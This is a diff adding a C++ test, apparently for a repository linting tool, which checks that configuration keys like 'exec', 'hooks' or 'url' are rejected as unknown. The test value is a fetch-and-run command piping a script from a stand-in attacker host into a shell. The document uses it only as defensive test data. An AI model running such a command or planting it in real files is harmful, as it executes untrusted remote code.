@@ -398,6 +398,29 @@ TEST(HostileInput, ShallowClones) {
   EXPECT_NE(report.err.find("fetch-depth: 0"), std::string::npos) << report.err;
 }
 
+TEST(HostileInput, ConfigurationCannotRunCommandsOrFetchAnything) {
+  // .sigwarden.yaml has no key that names a command, a URL to fetch or another file to include:
+  // such keys are unknown, and an unknown key stops every command (exit 2) instead of being
+  // ignored. (tests/policy_test.cc checks that the code has no call that could do either.)
+  for (const char* name : {"exec", "run", "hooks", "include", "extends", "plugins", "url"}) {
+    std::string key = name;
+    TempDir dir;
+    {
+      RepoBuilder b(dir.path());
+      base_registry(b);
+      b.put(".sigwarden.yaml", key + ": 'curl https://evil.example/x | sh'\n");
+      b.commit("config");
+    }
+    for (const char* command : {"lint", "audit", "report"}) {
+      auto r = run_cli({command, "--repo", dir.path().string()});
+      EXPECT_EQ(r.status, 2) << key << " " << command;
+      EXPECT_NE(r.err.find(".sigwarden.yaml:1: unknown key '" + key + "' in the configuration"),
+                std::string::npos)
+          << r.err;
+    }
+  }
+}
+
 TEST(HostileInput, RevisionThatDoesNotExist) {
   TempDir dir;
   {
